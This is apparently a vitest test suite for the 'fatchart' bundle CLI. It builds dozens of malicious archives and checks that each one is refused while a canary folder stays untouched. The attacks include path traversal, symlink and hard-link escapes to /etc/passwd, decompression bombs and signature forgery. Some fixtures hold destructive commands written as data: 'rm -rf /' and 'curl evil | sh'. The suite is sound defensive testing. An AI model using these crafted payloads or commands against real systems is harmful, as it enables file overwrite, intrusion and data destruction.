/**
 * The hostile corpus: crafted bundles, each an attack a fat chart from a stranger might carry.
 * Every one is run through the real CLI (`fatchart unpack --target manifests`) in a sandbox
 * holding a canary folder; each must be refused with its own message and the documented exit
 * code, leave the canary byte-for-byte unchanged and leave nothing at --out or beside it.
 */
import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { lstat, mkdir, mkdtemp, open, readdir, readFile, readlink, rm, stat, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ExitCode, type ExitCodeName } from '../../src/errors.js';
import { generateKeyPair } from '../../src/security/keys.js';
import { signerFromFile } from '../../src/security/signature.js';
import type { Signer } from '../../src/bundle/writer.js';
import { commandProbe, needs } from '../support/require.js';
import { compress } from 'zstd-napi';
import { baseBundle, entriesOf, header, manifestOf, seal, tarOf, withVolume, type Entry } from './craft.js';

const cli = fileURLToPath(new URL('../../dist/cli/main.js', import.meta.url));
let work: string;
let base: Entry[];
let signedBase: Entry[];
let me: Signer;
let other: Signer;
let mePub: string;

/** Each attack gets a sandbox: SANDBOX/canary (must not change) and SANDBOX/out (must not appear). */
interface Attack {
  name: string;
  /** Writes the hostile file(s) into the sandbox and returns the bundle path and extra CLI flags. */
  build(sandbox: string): Promise<{ bundle: string; args?: string[] }>;
  code: ExitCodeName;
  message: RegExp;
}

const canaryOf = (sandbox: string) => join(sandbox, 'canary');
const put = async (sandbox: string, data: Buffer, name = 'evil.fatchart') => {
  const p = join(sandbox, name);
  await writeFile(p, data);
  return p;
};
const clone = (entries: Entry[]) => entries.map((e) => ({ ...e, body: Buffer.from(e.body) }));
const editManifest = (entries: Entry[], edit: (m: Record<string, any>) => void): Entry[] => {
  const out = clone(entries);
  const me = out.find((e) => e.name === 'fatchart.json')!;
  const m = JSON.parse(me.body.toString('utf8'));
  edit(m);
  me.body = Buffer.from(JSON.stringify(m, null, 2));
  return out;
};
const simple = (mutate: (e: Entry[]) => Entry[] | Promise<Entry[]>, sealOpts: Parameters<typeof seal>[1] = {}) => async (sandbox: string) => ({
  bundle: await put(sandbox, seal(await mutate(clone(base)), sealOpts)),
});
const volume = (members: Parameters<typeof withVolume>[2] | ((sandbox: string) => Parameters<typeof withVolume>[2]), editIndex?: Parameters<typeof withVolume>[3]) =>
  async (sandbox: string) => ({
    bundle: await put(sandbox, seal(await withVolume(clone(base), 'files', typeof members === 'function' ? members(sandbox) : members, editIndex))),
  });

/** A sparse file: `declared` bytes of entry `name` announced in its header, then the rest of the bundle. */
async function oversized(sandbox: string, name: string, declared: number): Promise<string> {
  const p = join(sandbox, 'huge.fatchart');
  const h = await open(p, 'w');
  try {
    const rest = base.filter((e) => e.name !== name && e.name !== 'fatchart.sha256');
    const first = name === 'fatchart.json';
    const before = first ? Buffer.alloc(0) : tarOf(rest.map((e) => ({ path: e.name, body: e.body })), false);
    const trailerText = rest.map((e) => `${'0'.repeat(64)}  ${e.name}\n`).join('');
    await h.write(Buffer.concat([before, header({ path: name, size: declared })]), 0, undefined, 0);
    const after = first
      ? tarOf([...rest.map((e) => ({ path: e.name, body: e.body })), { path: 'fatchart.sha256', body: `${'0'.repeat(64)}  fatchart.json\n${trailerText}` }])
      : Buffer.alloc(BLOCK_END);
    const at = before.length + 512 + declared;
    await h.write(after, 0, after.length, at);
  } finally {
    await h.close();
  }
  return p;
}
const BLOCK_END = 1024;

/** A volume whose tar bytes are changed after the index was made from the intact ones. */
const rawVolume = (edit: (tar: Buffer) => Buffer) => async (sandbox: string) => {
  const members = [{ path: 'a.txt', body: 'alpha' }, { path: 'b.txt', body: 'beta' }];
  const entries = await withVolume(clone(base), 'files', members);
  entries.find((e) => e.name === 'volumes/files.tar.zst')!.body = compress(edit(tarOf(members)));
  return { bundle: await put(sandbox, seal(entries)) };
};
/** Recomputes a ustar header checksum, so only the field under attack is wrong. */
function fixChecksum(block: Buffer): Buffer {
  block.fill(0x20, 148, 156);
  let sum = 0;
  for (let i = 0; i < 512; i++) sum += block[i]!;
  block.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148, 'latin1');
  return block;
}

const attacks: Attack[] = [
  // --- the archive's own structure -------------------------------------------------------
  { name: 'entry name climbing out with ../', build: simple((e) => [...e, { name: '../../canary/pwned', body: Buffer.from('x') }]), code: 'unsafe', message: /unexpected entry name "\.\.\/\.\.\/canary\/pwned"/ },
  { name: 'absolute entry name', build: async (s) => ({ bundle: await put(s, seal([...clone(base), { name: `${canaryOf(s)}/pwned`, body: Buffer.from('x') }])) }), code: 'unsafe', message: /unexpected entry name "\/.*\/canary\/pwned"/ },
  { name: 'symlink entry in the archive', build: simple((e) => [...e, { name: 'chart/templates/link.yaml', body: Buffer.alloc(0), type: 'SymbolicLink', linkpath: '/etc/passwd' }]), code: 'unsafe', message: /"chart\/templates\/link\.yaml" is a SymbolicLink/ },
  { name: 'hard link entry in the archive', build: simple((e) => [...e, { name: 'originals/hl.json', body: Buffer.alloc(0), type: 'Link', linkpath: '/etc/shadow' }]), code: 'unsafe', message: /"originals\/hl\.json" is a Link/ },
  { name: 'character device entry', build: simple((e) => [...e, { name: 'chart/templates/dev.yaml', body: Buffer.alloc(0), type: 'CharacterDevice' }]), code: 'unsafe', message: /is a CharacterDevice/ },
  { name: 'FIFO entry', build: simple((e) => [...e, { name: 'chart/templates/fifo.yaml', body: Buffer.alloc(0), type: 'FIFO' }]), code: 'unsafe', message: /is a FIFO/ },
  { name: 'duplicate entry', build: simple((e) => [...e, { name: 'chart/values.yaml', body: Buffer.from('evil: true\n') }]), code: 'unsafe', message: /duplicate entry "chart\/values\.yaml"/ },
  { name: 'entry name the format does not define', build: simple((e) => [...e, { name: 'install.sh', body: Buffer.from('rm -rf /') }]), code: 'unsafe', message: /unexpected entry name "install\.sh"/ },
  { name: 'entry extra to the manifest', build: simple((e) => [...e, { name: 'originals/9999-secret-extra.json', body: Buffer.from('{}') }]), code: 'verification', message: /originals\/9999-secret-extra\.json: entry in the archive that the manifest does not account for/ },
  { name: 'entry missing from the archive', build: simple((e) => e.filter((x) => !x.name.includes('configmap') || !x.name.startsWith('chart/'))), code: 'verification', message: /configmap-config\.yaml: listed in the manifest but missing from the archive/ },
  { name: 'manifest lists one entry twice', build: simple((e) => editManifest(e, (m) => m.originals.push({ ...m.originals[0] })), { keepRefs: true }), code: 'verification', message: /listed twice in the manifest/ },
  { name: 'manifest and trailer disagree on a digest', build: simple((e) => editManifest(e, (m) => (m.chart.files[1].sha256 = 'a'.repeat(64))), { keepRefs: true }), code: 'verification', message: /chart\/values\.yaml: fatchart\.json and fatchart\.sha256 disagree on its checksum/ },
  { name: 'manifest failing its schema', build: simple((e) => e, { editManifest: (m) => Object.assign(m, { hooks: { preInstall: 'curl evil | sh' } }) }), code: 'verification', message: /manifest fails its schema at \/: must NOT have additional properties/ },
  { name: 'manifest field of the wrong type', build: simple((e) => e, { editManifest: (m) => Object.assign(m.plan, { files: 'many' }) }), code: 'verification', message: /manifest fails its schema at \/plan\/files/ },
  { name: 'newer major format version', build: simple((e) => e, { editManifest: (m) => Object.assign(m, { formatVersion: '2.0', teleport: true }) }), code: 'unsupported', message: /format version 2\.0 is newer than this fatchart reads/ },
  { name: 'manifest of 1 GiB', build: async (s) => ({ bundle: await oversized(s, 'fatchart.json', 1 << 30) }), code: 'unsafe', message: /fatchart\.json: entry of 1073741824 bytes exceeds/ },
  { name: 'trailer of 100 MiB', build: async (s) => ({ bundle: await oversized(s, 'fatchart.sha256', 100 << 20) }), code: 'unsafe', message: /fatchart\.sha256: entry of 104857600 bytes exceeds/ },
  { name: 'oversized pax header', build: async (s) => ({ bundle: await put(s, Buffer.concat([header({ path: 'PaxHeader', type: 'ExtendedHeader', size: 1 << 20 }), Buffer.alloc((1 << 20) + 2048)])) }), code: 'unsafe', message: /oversized pax header/ },
  { name: 'manifest not the first entry', build: simple((e) => [e[1]!, e[0]!, ...e.slice(2)]), code: 'verification', message: /not a fat chart: the first entry is "chart\/Chart\.yaml"/ },
  { name: 'entry after the trailer', build: async (s) => ({ bundle: await put(s, Buffer.concat([seal(clone(base)).subarray(0, -1024), tarOf([{ path: 'chart/templates/late.yaml', body: 'kind: Pod' }])])) }), code: 'verification', message: /fatchart\.sha256 must be the last entry/ },
  { name: 'template changed after packing', build: async (s) => { const b = seal(clone(base)); const i = b.indexOf('mode: test'); b.write('mode: evil', i); return { bundle: await put(s, b) }; }, code: 'verification', message: /configmap-config\.yaml: checksum mismatch/ },
  { name: 'archive truncated in the middle', build: async (s) => { const b = seal(clone(base)); return { bundle: await put(s, b.subarray(0, Math.floor(b.length / 2))) }; }, code: 'verification', message: /truncated: the archive ends at byte \d+ without its end marker/ },
  { name: 'zstd stream replaced by garbage', build: simple((e) => { e.find((x) => x.name === 'volumes/files.tar.zst')!.body = Buffer.from('this is not zstd'.repeat(10)); return e; }), code: 'verification', message: /files\.tar\.zst: not a valid zstd stream/ },
  // --- volume contents ---------------------------------------------------------------------
  { name: 'volume member climbing out with ../', build: volume([{ path: '../../../canary/pwned', body: 'x' }]), code: 'unsafe', message: /\.\.\/\.\.\/\.\.\/canary\/pwned: member path climbs out of the volume/ },
  { name: 'absolute volume member', build: volume((s) => [{ path: `${canaryOf(s)}/pwned`, body: 'x' }]), code: 'unsafe', message: /canary\/pwned: absolute member path/ },
  { name: 'symlink planted, then written through', build: volume((s) => [{ path: 'link', type: 'SymbolicLink', linkpath: canaryOf(s) }, { path: 'link/pwned', body: 'x' }]), code: 'unsafe', message: /link\/pwned: would be written through "link", which is a symlink/ },
  { name: 'symlink to a folder, then a folder through it', build: volume((s) => [{ path: 'up', type: 'SymbolicLink', linkpath: '../../..' }, { path: 'up/canary/deep.txt', body: 'x' }]), code: 'unsafe', message: /up\/canary\/deep\.txt: would be written through "up"/ },
  { name: 'hard link to a file outside', build: volume([{ path: 'passwd', type: 'Link', linkpath: '/etc/passwd' }]), code: 'unsafe', message: /hard link to "\/etc\/passwd" outside the volume/ },
  { name: 'hard link climbing out with ../', build: volume([{ path: 'sneaky', type: 'Link', linkpath: '../../../canary/secret.txt' }]), code: 'unsafe', message: /hard link to "\.\.\/\.\.\/\.\.\/canary\/secret\.txt" outside/ },
  { name: 'hard link to a symlink', build: volume((s) => [{ path: 'l', type: 'SymbolicLink', linkpath: `${canaryOf(s)}/secret.txt` }, { path: 'h', type: 'Link', linkpath: 'l' }]), code: 'unsafe', message: /hard link to "l", which is not a file extracted before it/ },
  { name: 'character device member', build: volume([{ path: 'null', type: 'CharacterDevice', mode: 0o666 }]), code: 'unsafe', message: /null: a chardev node cannot be restored/ },
  { name: 'block device member', build: volume([{ path: 'sda', type: 'BlockDevice', mode: 0o660 }]), code: 'unsafe', message: /sda: a blockdev node cannot be restored/ },
  { name: 'FIFO member', build: volume([{ path: 'pipe', type: 'FIFO' }]), code: 'unsafe', message: /pipe: a fifo node cannot be restored/ },
  { name: 'duplicate member', build: volume([{ path: 'a.txt', body: 'first' }, { path: 'a.txt', body: 'second' }]), code: 'unsafe', message: /a\.txt: duplicate member/ },
  { name: 'member name over NAME_MAX', build: volume([{ path: `${'n'.repeat(300)}.txt`, body: 'x' }]), code: 'unsafe', message: /member name exceeds file system limits/ },
  { name: 'file content disagrees with its index', build: volume([{ path: 'a.txt', body: 'real' }], (r) => r.map((x) => ({ ...x, sha256: x.sha256 && 'b'.repeat(64) }))), code: 'verification', message: /a\.txt: file digest does not match the volume index/ },
  { name: 'file mode disagrees with its index', build: volume([{ path: 'a.txt', body: 'real', mode: 0o4755 }], (r) => r.map((x) => ({ ...x, mode: 0o644 }))), code: 'verification', message: /a\.txt: mode is 2541 in the data but 420 in the volume index/ },
  { name: 'member missing from the index', build: volume([{ path: 'a.txt', body: 'a' }, { path: 'b.txt', body: 'b' }], (r) => r.slice(0, 1)), code: 'verification', message: /b\.txt: member is not in the volume index/ },
  { name: 'index lists members the data lacks', build: volume([{ path: 'a.txt', body: 'a' }], (r) => [...r, { ...r[0]!, path: 'ghost.txt' }]), code: 'verification', message: /volume index lists members the data does not hold/ },
  { name: 'volume tar with a corrupt member header', build: rawVolume((tar) => { tar[100]! ^= 0x40; return tar; }), code: 'verification', message: /files\.tar\.zst: volume data is corrupt: header checksum mismatch/ },
  { name: 'volume tar with a malformed size field', build: rawVolume((tar) => { tar[124] = 0x90; return fixChecksum(tar); }), code: 'verification', message: /files\.tar\.zst: volume data is corrupt: invalid base256 encoding/ },
  { name: 'volume tar without its end marker', build: rawVolume((tar) => tar.subarray(0, tar.length - 1024)), code: 'verification', message: /files\.tar\.zst: volume data is corrupt: archive ends without the end-of-archive marker/ },
  { name: 'zstd bomb past the declared size', build: async (s) => ({ bundle: await put(s, seal(await withVolume(clone(base), 'files', [{ path: 'bomb.bin', body: Buffer.alloc(64 << 20) }]), { editManifest: (m) => Object.assign(m.volumes[0]!.stats, { dataBytes: 10 }) })) }), code: 'unsafe', message: /decompressed volume exceeds the \d+ bytes its manifest entry allows/ },
  { name: 'declared size beyond zstd\'s ratio', build: simple((e) => e, { editManifest: (m) => Object.assign(m.volumes[0]!.stats, { dataBytes: 1e9 }) }), code: 'unsafe', message: /declares 1000000000 bytes of data from \d+ compressed bytes, beyond the 65536:1 ratio cap/ },
  { name: 'more data than the disk holds', build: simple((e) => e, { editManifest: (m) => Object.assign(m.plan, { dataBytes: 1e15 }) }), code: 'platform', message: /restoring 1000000000000000 bytes of volume data needs/ },
  { name: 'index far larger than its member count', build: simple((e) => { e.find((x) => x.name === 'volumes/files.index.jsonl')!.body = Buffer.from(`${' '.repeat(8 << 20)}\n`); return e; }), code: 'unsafe', message: /index of 8388609 bytes exceeds the \d+ bytes files's member count allows/ },
  { name: 'index line longer than any record, within the declared total', build: simple((e) => { e.find((x) => x.name === 'volumes/files.index.jsonl')!.body = Buffer.from(`{"path":"${'x'.repeat(64 << 10)}"}\n`); return e; }, { editManifest: (m) => Object.assign(m.volumes[0]!.stats, { dirs: 1000 }) }), code: 'unsafe', message: /files\.index\.jsonl: a line longer than \d+ bytes; no index record is that long/ },
  { name: 'volume stats understated in the plan total', build: simple((e) => e, { editManifest: (m) => { m.volumes[0]!.stats.dataBytes = 3e14; m.plan.dataBytes = 10; } }), code: 'platform', message: /restoring 300000000000000 bytes of volume data needs/ },
  // --- provenance ---------------------------------------------------------------------------
  { name: 'unsigned bundle where a key is required', build: async (s) => ({ bundle: await put(s, seal(clone(base))), args: ['--key', mePub] }), code: 'verification', message: /the bundle is not signed, and a signature is required/ },
  { name: 'signed by an untrusted key', build: async (s) => ({ bundle: await put(s, seal(clone(base), { signer: other })), args: ['--key', mePub] }), code: 'verification', message: /signed by key [0-9a-f]{16}, which is not a trusted key/ },
  { name: 'signed bundle modified and resealed', build: async (s) => {
      const sig = seal(clone(signedBase), { signer: me }).subarray(-1024 - 512 - 512);
      const tampered = seal(editManifest(clone(signedBase), (m) => (m.app.name = 'evil')), { keepRefs: true, signature: Buffer.alloc(64) });
      // The forger keeps the manifest's signer claim and splices in the original signature block.
      return { bundle: await put(s, Buffer.concat([tampered.subarray(0, -1024 - 1024), sig])), args: ['--key', mePub] };
    }, code: 'verification', message: /bad signature: the bundle was modified after key [0-9a-f]{16} signed it/ },
  { name: 'signature stripped', build: async (s) => { const b = seal(clone(signedBase), { signer: me }); return { bundle: await put(s, Buffer.concat([b.subarray(0, -1024 - 1024), Buffer.alloc(1024)])), args: [] }; }, code: 'verification', message: /says it is signed by key [0-9a-f]{16} but fatchart\.sig is missing/ },
  { name: 'signature grafted onto an unsigned bundle', build: async (s) => ({ bundle: await put(s, seal(clone(base), { signature: Buffer.alloc(64, 1) })) }), code: 'verification', message: /fatchart\.sig is present but the manifest names no signer/ },
  { name: 'signature of the wrong size', build: async (s) => ({ bundle: await put(s, seal(clone(base), { editManifest: (m) => (m.signature = { algorithm: 'ed25519', keyId: me.keyId }), signature: Buffer.alloc(4096, 1) })), args: ['--key', mePub] }), code: 'verification', message: /fatchart\.sig is 4096 bytes, an Ed25519 signature is 64/ },
];

async function snapshot(dir: string): Promise<string[]> {
  const out: string[] = [];
  for (const name of (await readdir(dir, { recursive: true })).sort()) {
    const p = join(dir, name);
    const st = await lstat(p);
    const what = st.isFile() ? createHash('sha256').update(await readFile(p)).digest('hex') : st.isSymbolicLink() ? `-> ${await readlink(p)}` : 'dir';
    out.push(`${relative(dir, p)} ${st.mode.toString(8)} ${st.mtimeMs} ${what}`);
  }
  return out;
}

beforeAll(async () => {
  work = await mkdtemp(join(tmpdir(), 'fatchart-hostile-'));
  const keys = await generateKeyPair(join(work, 'me'));
  await generateKeyPair(join(work, 'other'));
  mePub = keys.publicPath;
  me = await signerFromFile(keys.privatePath);
  other = await signerFromFile(join(work, 'other.key'));
  base = await entriesOf(await baseBundle(work));
  signedBase = await entriesOf(await baseBundle(work, me));
});

afterAll(async () => {
  await rm(work, { recursive: true, force: true });
});

describe('hostile corpus', () => {
  const seen = new Map<string, string>();

  it('has at least 25 distinct attacks', () => {
    expect(attacks.length).toBeGreaterThanOrEqual(25);
    expect(new Set(attacks.map((a) => a.name)).size).toBe(attacks.length);
  });

  it.each(attacks.map((a, i) => [i, a.name, a] as const))('#%i %s is refused', async (i, _name, attack) => {
    const sandbox = join(work, `sandbox-${i}`);
    await mkdir(join(sandbox, 'canary'), { recursive: true });
    await writeFile(join(sandbox, 'canary', 'secret.txt'), 'do not touch\n');
    const before = await snapshot(canaryOf(sandbox));
    const { bundle, args = [] } = await attack.build(sandbox);
    const listing = (await readdir(sandbox)).sort();
    const r = spawnSync(process.execPath, [cli, 'unpack', bundle, '--target', 'manifests', '--out', join(sandbox, 'out'), '-q', ...args], { encoding: 'utf8', timeout: 60_000 });
    const message = r.stderr.trim().split('\n').filter((l) => l.startsWith('fatchart: ')).pop() ?? r.stderr;
    expect(message).toMatch(attack.message);
    expect(r.status, message).toBe(ExitCode[attack.code]);
    // Nothing outside the target: the canary is untouched, no --out, no staging folder left.
    expect(await snapshot(canaryOf(sandbox))).toEqual(before);
    expect((await readdir(sandbox)).sort()).toEqual(listing);
    expect(seen.has(message), `same message as "${seen.get(message)}"`).toBe(false);
    seen.set(message, attack.name);
  });
});

describe('setuid and setgid bits', () => {
  it('are stripped on restore unless --preserve-perms', async () => {
    const sandbox = join(work, 'suid');
    await mkdir(sandbox, { recursive: true });
    const bundle = await put(sandbox, seal(await withVolume(clone(base), 'files', [{ path: 'su', body: '#!/bin/sh\n', mode: 0o6755 }, { path: 'sticky', type: 'Directory', mode: 0o1777 }])));
    const run = (out: string, ...args: string[]) => spawnSync(process.execPath, [cli, 'unpack', bundle, '--out', join(sandbox, out), '-q', ...args], { encoding: 'utf8' });
    expect(run('plain').status).toBe(0);
    expect((await stat(join(sandbox, 'plain', 'data', 'files', 'su'))).mode & 0o7777).toBe(0o755);
    expect((await stat(join(sandbox, 'plain', 'data', 'files', 'sticky'))).mode & 0o7777).toBe(0o1777);
    expect(run('kept', '--preserve-perms').status).toBe(0);
    expect((await stat(join(sandbox, 'kept', 'data', 'files', 'su'))).mode & 0o7777).toBe(process.getuid?.() === 0 ? 0o6755 : 0o755);
  });
});
